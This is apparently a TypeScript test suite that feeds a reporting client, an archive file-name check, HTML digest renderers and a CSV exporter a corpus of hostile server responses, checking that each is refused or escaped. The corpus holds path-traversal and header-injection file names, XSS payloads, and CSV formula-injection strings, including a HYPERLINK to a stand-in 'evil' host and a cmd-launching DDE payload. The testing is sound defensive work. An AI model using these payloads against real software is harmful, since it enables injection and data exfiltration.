/**
 * A hostile-input corpus (issue 14) against the ReportingClient, the archive's file name check, the renderers and the
 * license CSV cells. A raw HTTP server on 127.0.0.1 impersonates the service: sign-in and logout go through to a real
 * emulator (so sessions, cookies and CSRF are the real thing), every other request gets the answer the test scripts:
 * hostile file names, malformed, truncated, oversized and deeply nested JSON, wrong types. What must hold: a named
 * client error (a ReportingServiceError subclass), never a crash, a hang or a plain SyntaxError/RangeError; hostile
 * names are refused with a reason that quotes them safely; HTML stays escaped; CSV formulas are neutralised.
 */

import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer, type IncomingMessage, request, type Server, type ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../emulator/files/csv.ts';
import type { Emulator } from '../../emulator/index.ts';
import { ReportFolder } from '../../src/adapters/local/report-folder.ts';
import { EmlFileWriter } from '../../src/adapters/mail/eml-file-writer.ts';
import { checkFileName, type FileNameKind } from '../../src/archive/file-names.ts';
import type { Manifest } from '../../src/archive/manifest.ts';
import { runArchive } from '../../src/archive/run-archive.ts';
import {
  type FetchLike,
  ReportingClient,
  ReportingServiceError,
  ResponseShapeError,
  ServerError,
} from '../../src/client/index.ts';
import { previewDigest } from '../../src/digest/preview.ts';
import { renderDigestEmail } from '../../src/digest/render/digest-email.ts';
import { renderDigestReport } from '../../src/digest/render/digest-report.ts';
import { csvCell, csvRow, neutralizedCellValue } from '../../src/licenses/shared/csv-cells.ts';
import { type ArchivePeers, NO_RAW_PRODUCT, startArchivePeers } from '../archive/archive-peers.ts';
import { hostileView } from '../digest/sample-views.ts';
import { startTestEmulator } from '../helpers/emulator-session.ts';
import { addingListedNames } from '../helpers/hostile-listing.ts';
import { type LocalDigest, startLocalDigest } from '../helpers/local-digest.ts';

const P = '12345678901';
const AUTH_PATHS = ['/v3/request-csrf', '/v3/auth/web', '/v3/auth/logout'];

type Script = (req: IncomingMessage, res: ServerResponse) => void;
let emu: Emulator;
let server: Server;
let baseUrl: string;
let script: Script = (_req, res) => res.writeHead(404).end();

beforeAll(async () => {
  emu = await startTestEmulator({ clients: 20 });
  const target = new URL(emu.baseUrl);
  server = createServer((req, res) => {
    if (!AUTH_PATHS.includes(req.url ?? '')) {
      req.resume();
      script(req, res);
      return;
    }
    const up = request(
      { host: target.hostname, port: target.port, method: req.method, path: req.url, headers: req.headers },
      (r) => {
        res.writeHead(r.statusCode ?? 502, r.headers);
        r.pipe(res);
      },
    );
    up.on('error', () => res.destroy());
    req.pipe(up);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await emu.close();
});

const newClient = () =>
  new ReportingClient({
    baseUrl,
    origin: emu.origin,
    headerPrefix: emu.headerPrefix,
    credentials: emu.credentials,
    maxRetries: 0,
    timeoutMs: 1_500,
    deadlineMs: 2_000,
  });

const json =
  (body: string | Buffer, status = 200): Script =>
  (_req, res) => {
    res.writeHead(status, { 'content-type': 'application/json' });
    res.end(body);
  };

async function outcome(action: () => Promise<unknown>): Promise<unknown> {
  try {
    return { value: await action() };
  } catch (e) {
    return e;
  }
}

/** The call ends, within the deadline, in a named client error. */
async function expectNamedError(scripted: Script, call = (c: ReportingClient) => c.customEventsListFiles(P)) {
  script = scripted;
  const client = newClient();
  const started = Date.now();
  try {
    const e = await outcome(() => call(client));
    expect(e, String((e as Error)?.stack ?? JSON.stringify(e)).slice(0, 500)).toBeInstanceOf(ReportingServiceError);
    expect(Date.now() - started).toBeLessThan(8_000);
    return e as ReportingServiceError;
  } finally {
    script = (_req, res) => res.writeHead(404).end();
    await client.logout().catch(() => undefined);
  }
}

const LISTING = (names: unknown[]) =>
  JSON.stringify({
    dailyFiles: names.map((fileName) => ({
      fileName,
      fileDate: '2026-11-19',
      uncompressedSizeKB: 2,
      compressedSizeKB: 1,
    })),
    monthlyFiles: [],
    openDailyFiles: [],
  });

describe('malformed responses end in a named client error', () => {
  it.each<[string, Script]>([
    ['not JSON', json('<html><script>alert(1)</script></html>')],
    ['truncated JSON', json(LISTING(['a']).slice(0, 40))],
    ['an empty body', json('')],
    ['a bare number', json('1')],
    ['null', json('null')],
    ['an array', json('[]')],
    ['wrong types', json(JSON.stringify({ dailyFiles: 'x', monthlyFiles: {}, openDailyFiles: 1 }))],
    ['a file entry of wrong types', json(JSON.stringify({ dailyFiles: [{ fileName: 1, fileDate: [] }] }))],
    ['invalid UTF-8', json(Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]))],
    ['a NUL in the body', json('{"dailyFiles":\u0000[]}')],
    ['100k levels of nesting', json(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)],
    ['100k levels of nested objects', json(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
    [
      'a body cut by a reset',
      (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' });
        res.write('{"dailyFiles":[');
        setTimeout(() => res.destroy(), 20);
      },
    ],
    [
      'a body that stalls',
      (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.write('{"dailyFiles":[');
      },
    ],
    ['a 500 with an HTML body', json('<h1>oops</h1>', 500)],
    [
      'a 200 with a huge header',
      (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'x-junk': 'x'.repeat(60_000) });
        res.end(LISTING([]));
      },
    ],
  ])('%s', async (_label, scripted) => {
    await expectNamedError(scripted);
  });

  it('a listing with wrong types inside is a ResponseShapeError naming the field', async () => {
    const e = await expectNamedError(
      json(JSON.stringify({ dailyFiles: [{ fileName: 7 }], monthlyFiles: [], openDailyFiles: [] })),
    );
    expect(e).toBeInstanceOf(ResponseShapeError);
    expect(e.message).toMatch(/dailyFiles\[0\]/);
  });

  it('an oversized (50 MB) response is refused, not read into memory whole', async () => {
    const chunk = Buffer.from(
      `{"fileName":"${'x'.repeat(1000)}","fileDate":"2026-11-19","uncompressedSizeKB":2,"compressedSizeKB":1},`,
    );
    let sent = 0;
    const e = await expectNamedError((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"dailyFiles":[');
      const pump = () => {
        while (sent < 50 * 1024 * 1024) {
          sent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end('{}],"monthlyFiles":[],"openDailyFiles":[]}');
      };
      res.on('close', () => undefined);
      pump();
    });
    expect(e).toBeInstanceOf(ResponseShapeError);
    expect(e.message).toMatch(/larger than 33554432 bytes/);
    // The server stopped being read long before it had sent everything.
    expect(sent).toBeLessThan(50 * 1024 * 1024);
  });

  it('an error status with a 50 MB body or a body that stalls: the service error, read in part, in time', async () => {
    const big = await expectNamedError((_req, res) => {
      res.writeHead(503, { 'content-type': 'application/json' });
      res.write(`{"error":"Service Unavailable","message":"${'x'.repeat(1024)}`);
      const pump = () => {
        while (!res.destroyed && res.write('x'.repeat(64 * 1024)));
        if (!res.destroyed) res.once('drain', pump);
      };
      setTimeout(() => res.destroy(), 3_000);
      pump();
    });
    expect(big).toBeInstanceOf(ServerError);
    const stalled = await expectNamedError((_req, res) => {
      res.writeHead(500, { 'content-type': 'application/json' });
      res.write('{"error":');
    });
    expect(stalled).toBeInstanceOf(ServerError);
  });
});

describe('a sign-in answered with hostile bodies', () => {
  it.each<[string, string]>([
    ['not JSON', '<html>'],
    ['truncated JSON', '{"account":{"name":"'],
    ['wrong types', '{"account":1}'],
  ])('%s → a named error', async (_label, body) => {
    const client = newClient();
    const original = script;
    // Only the sign-in is answered by the script; the CSRF request still goes to the emulator.
    const signInServer = createServer((req, res) => {
      if (req.url === '/v3/auth/web') {
        req.resume();
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(body);
        return;
      }
      const target = new URL(emu.baseUrl);
      const up = request(
        { host: target.hostname, port: target.port, method: req.method, path: req.url, headers: req.headers },
        (r) => {
          res.writeHead(r.statusCode ?? 502, r.headers);
          r.pipe(res);
        },
      );
      req.pipe(up);
    });
    await new Promise<void>((resolve) => signInServer.listen(0, '127.0.0.1', resolve));
    try {
      const c = new ReportingClient({
        baseUrl: `http://127.0.0.1:${(signInServer.address() as { port: number }).port}`,
        origin: emu.origin,
        headerPrefix: emu.headerPrefix,
        credentials: emu.credentials,
        maxRetries: 0,
        timeoutMs: 2_000,
      });
      const e = await outcome(() => c.signIn());
      expect(e, String((e as Error)?.stack)).toBeInstanceOf(ReportingServiceError);
    } finally {
      script = original;
      signInServer.closeAllConnections();
      await new Promise((resolve) => signInServer.close(resolve));
      await client.logout().catch(() => undefined);
      emu.state.sessions.endAll(emu.credentials.userName);
    }
  });
});

/** The file name corpus: traversal, absolute, NUL and control characters, 1 KB, look-alikes, markup, formulas. */
const HOSTILE_NAMES: unknown[] = [
  `../${P}_cust_2026-11-19.zip`,
  `..\\..\\${P}_cust_2026-11-19.zip`,
  `/etc/${P}_cust_2026-11-19.zip`,
  `C:\\${P}_cust_2026-11-19.zip`,
  `\\\\server\\share\\${P}_cust_2026-11-19.zip`,
  `${P}_cust_2026-11-19.zip\u0000.sh`,
  `${P}_cust_2026-11-19.zip\r\nX-Injected: 1`,
  `\u001b[2J${P}_cust_2026-11-19.zip`,
  `${P}_cust_2026-11-19${'A'.repeat(1024)}.zip`,
  `${P.replace('1', '１')}_cust_2026-11-19.zip`, // fullwidth digit
  `${P}_cust_2026-11-19.zіp`, // Cyrillic і
  `${P}_cust_2026-11-19\u202egpj.zip`,
  `${P}_cust_2026-11-19.zip\u200b`,
  `<script>alert(1)</script>${P}_cust_2026-11-19.zip`,
  `=HYPERLINK("http://evil")${P}_cust_2026-11-19.zip`,
  `${P}_cust_2026-11-19.zip/`,
  '.',
  '..',
  '',
  null,
  7,
  { fileName: 'x' },
];

describe('hostile file names from the service', () => {
  it('the client passes them through as data; the archive name check refuses every one with a printable reason', async () => {
    const strings = HOSTILE_NAMES.filter((n): n is string => typeof n === 'string');
    script = json(LISTING(strings));
    const client = newClient();
    try {
      const listing = await client.customEventsListFiles(P);
      expect(listing.dailyFiles.map((f) => f.fileName)).toEqual(strings);
    } finally {
      await client.logout();
    }
    for (const name of HOSTILE_NAMES) {
      for (const kind of ['customEvents', 'exceptions', 'rawEvents'] as FileNameKind[]) {
        const r = checkFileName(P, kind, name);
        expect(r.ok, JSON.stringify(name)).toBe(false);
        if (!r.ok) {
          expect(r.reason).toMatch(/^[\x20-\x7e…]+$/);
          expect(r.reason.length).toBeLessThan(300);
        }
      }
    }
  });

  it('no generated name outside the documented patterns passes', () => {
    const documented = /^\d+_(cust_|exc_)?\d{4}-\d{2}-\d{2}(_to_\d{4}-\d{2}-\d{2})?\.zip$/;
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 40 }),
          fc.string({ unit: 'binary', maxLength: 5 }).map((s) => `${P}_cust_2026-11-19${s}.zip`),
          fc.string({ unit: 'binary', maxLength: 5 }).map((s) => `${s}${P}_cust_2026-11-19.zip`),
        ),
        (name) => {
          const r = checkFileName(P, 'customEvents', name);
          if (r.ok) expect(name).toMatch(documented);
          else expect(r.reason).toMatch(/^[\x20-\x7e…]+$/);
        },
      ),
      { numRuns: 500, seed: 14 },
    );
  });
});

describe('the archive job given the whole corpus in a listing', () => {
  let ap: ArchivePeers;
  beforeAll(async () => {
    ap = await startArchivePeers({ productIds: [NO_RAW_PRODUCT], clients: 40 });
  }, 60_000);
  afterAll(async () => {
    await ap?.close();
  });

  it('refuses every name with a printable, named reason and writes nothing of theirs', async () => {
    const names = HOSTILE_NAMES.filter((n): n is string => typeof n === 'string').map((n) =>
      n.replaceAll(P, NO_RAW_PRODUCT),
    );
    const run = await runArchive(ap.config, ap.ports({ fetch: addingListedNames(names) }), {
      productIds: [NO_RAW_PRODUCT],
      kinds: ['customEvents'],
    });
    expect(run.ok).toBe(false);
    expect(run.counts).toMatchObject({ rejected: names.length, failed: 0 });
    expect(run.errors).toHaveLength(names.length);
    for (const e of run.errors) {
      expect(e).toMatch(/^[\x20-\x7e…]+$/);
      expect(e.length).toBeLessThan(400);
    }
    const manifest = await ap.json<Manifest>(run.outputs[0]!);
    const rejected = manifest.files.filter((f) => f.outcome === 'rejected');
    expect(rejected).toHaveLength(names.length);
    for (const r of rejected) expect(r.key).toBeUndefined();
    // Nothing of theirs in the bucket: every key is one the layout makes of a documented name.
    for (const key of await ap.keys()) expect(key).toMatch(/^pulse\/[\w-]+(\/[\w.-]+)*$/);
    const onDisk = await readdir(ap.peers.workDir, { recursive: true });
    const theirs = (f: string) => /passwd|\.\.|script|HYPERLINK|AAAAAAAA|\u202e/i.test(f) || f.includes('\u0000');
    expect(onDisk.filter(theirs)).toEqual([]);
  });
});

/** Markup and script in every string a digest shows that the service chose: event names and categories, segment
 * labels (versions, countries), exception types and messages. */
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "' onmouseover='alert(3)",
  'javascript:alert(4)',
  '<a href="javascript:alert(5)">x</a>',
  '</td></tr></table><iframe src=//evil>',
  `{{title}} \${x} <!--`,
];
const markup = (i: number) => `${MARKUP[i % MARKUP.length]}#${i}`;

/** Rewrites the service's answers as a hostile service would: every shown string replaced by markup. */
function markupEverywhere(): FetchLike {
  let n = 0;
  return async (input, init) => {
    const res = await fetch(input, init);
    const url = input instanceof Request ? input.url : String(input);
    if (!res.ok || !/json/.test(res.headers.get('content-type') ?? '')) return res;
    // biome-ignore lint/suspicious/noExplicitAny: the service's answers, rewritten in place.
    const body: any = await res.json();
    if (url.includes('/eventTracking/lifetime/dataTable/'))
      for (const r of body.result) {
        r.eventName = markup(n++);
        r.eventCategory = markup(n++);
      }
    else if (url.includes('/lastLines/') || url.includes('LastLines'))
      for (const line of body.result) {
        if ('exception.type' in line) line['exception.type'] = markup(n++ % 3);
        if ('exception.message' in line) line['exception.message'] = markup(n++ % 5);
      }
    else if (url.includes('/generic/dateRange/') && body.result && typeof body.result === 'object')
      for (const [week, segments] of Object.entries(body.result as Record<string, unknown>)) {
        if (!segments || typeof segments !== 'object' || 'active' in segments) continue;
        body.result[week] = Object.fromEntries(
          Object.entries(segments as Record<string, unknown>).map(([label, v], i) => [`${markup(i)}${label}`, v]),
        );
      }
    const headers = new Headers(res.headers);
    headers.delete('content-length');
    return new Response(JSON.stringify(body), { status: res.status, headers });
  };
}

/** No live markup: no script element, no javascript: URL, no event handler attribute, no foreign element. */
function expectNoLiveMarkup(html: string): void {
  expect(html).not.toMatch(/<script(?![^>]*type="application\/(ld\+)?json")|(href|src)=["']?\s*javascript:/i);
  const outsideValues = html.replace(/"[^"]*"/g, '""');
  expect(outsideValues).not.toMatch(/<[a-z][^>]*\son[a-z]+=/i);
  expect(outsideValues).not.toMatch(/<iframe/i);
}

describe('a digest over a service answering markup in every string it chose', () => {
  let env: LocalDigest;
  let outDir: string;
  beforeAll(async () => {
    env = await startLocalDigest({
      clients: 60,
      products: [{ id: P, name: 'Desktop' }],
      digests: [
        { id: 'weekly', productIds: [P], recipients: [{ address: 'ann@example.com' }], owner: 'o@example.com' },
      ],
    });
    outDir = await mkdtemp(join(tmpdir(), 'pulse-hostile-preview-'));
  }, 60_000);
  afterAll(async () => {
    await env?.close();
    await rm(outDir, { recursive: true, force: true });
  });

  it('renders the email and the full report with every such string escaped', async () => {
    const emu = env.peers.emulator;
    const ports = env.ports();
    ports.client = new ReportingClient({
      baseUrl: emu.baseUrl,
      origin: emu.origin,
      headerPrefix: emu.headerPrefix,
      credentials: emu.credentials,
      maxRetries: 0,
      fetch: markupEverywhere(),
    });
    const result = await previewDigest(env.config, ports, {
      writer: new EmlFileWriter(outDir, () => 'weekly'),
      pages: new ReportFolder(outDir),
    });
    expect(result.errors).toEqual([]);
    const files = await readdir(outDir);
    const eml = await readFile(join(outDir, files.find((f) => f.endsWith('.eml'))!), 'utf8');
    const parsed = await simpleParser(eml, { keepCidLinks: true });
    const html = typeof parsed.html === 'string' ? parsed.html : '';
    const report = await readFile(
      join(outDir, files.find((f) => f.startsWith('digest-') && f.endsWith('.html'))!),
      'utf8',
    );
    for (const page of [html, report]) {
      expectNoLiveMarkup(page);
      // Non-vacuous: the hostile strings are there, as text (the email shows the exceptions).
      expect(page).toContain('&lt;a href=&quot;javascript:alert(');
    }
    // The report also shows the segment labels and the events.
    expect(report).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(report).toMatch(/&lt;iframe/);
    expect(parsed.text ?? '').toContain('<a href="javascript:alert(');
  });
});

describe('markup in every string stays escaped', () => {
  it('the full report page of the hostile view has no live markup', () => {
    const html = renderDigestReport(hostileView(), new Map());
    expect(html).not.toMatch(/<script(?![^>]*type="application\/json")|(href|src)=["']?\s*javascript:/i);
    expect(html.replace(/"[^"]*"/g, '""')).not.toMatch(/<[a-z][^>]*\son[a-z]+=/i);
  });

  it('the digest email of the hostile view has no live markup', () => {
    const { html, text } = renderDigestEmail(hostileView());
    expect(html).not.toMatch(/<script|(href|src)=["']?\s*javascript:/i);
    // No tag carries an event handler attribute (escaped text inside attribute values and text is fine).
    expect(html.replace(/"[^"]*"/g, '""')).not.toMatch(/<[a-z][^>]*\son[a-z]+=/i);
    expect(text).toContain('<script>');
  });
});

describe('CSV formula injection in license CSV cells', () => {
  it('no cell read back by a spreadsheet starts a formula, and the original text comes back exactly', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc
        .tuple(
          fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '\n', '"', ',', ' =', '\u00a0='),
          fc.string({ maxLength: 20 }),
        )
        .map(([a, b]) => a + b),
      fc.constantFrom('=HYPERLINK("http://evil?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3', '+1', "'=1"),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), fc.boolean(), (cells, quoteAll) => {
        const line = csvRow(cells, { quoteAll });
        expect(line.endsWith('\r\n')).toBe(true);
        const [row, ...more] = parseCsv(line);
        expect(more).toEqual([]);
        expect(row).toHaveLength(cells.length);
        for (const [i, read] of row!.entries()) {
          expect(read).not.toMatch(/^[=+\-@\t\r]/);
          expect(neutralizedCellValue(read)).toBe(cells[i]);
        }
        for (const c of cells) expect(csvCell(c, { quoteAll })).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500, seed: 14 },
    );
  });
});
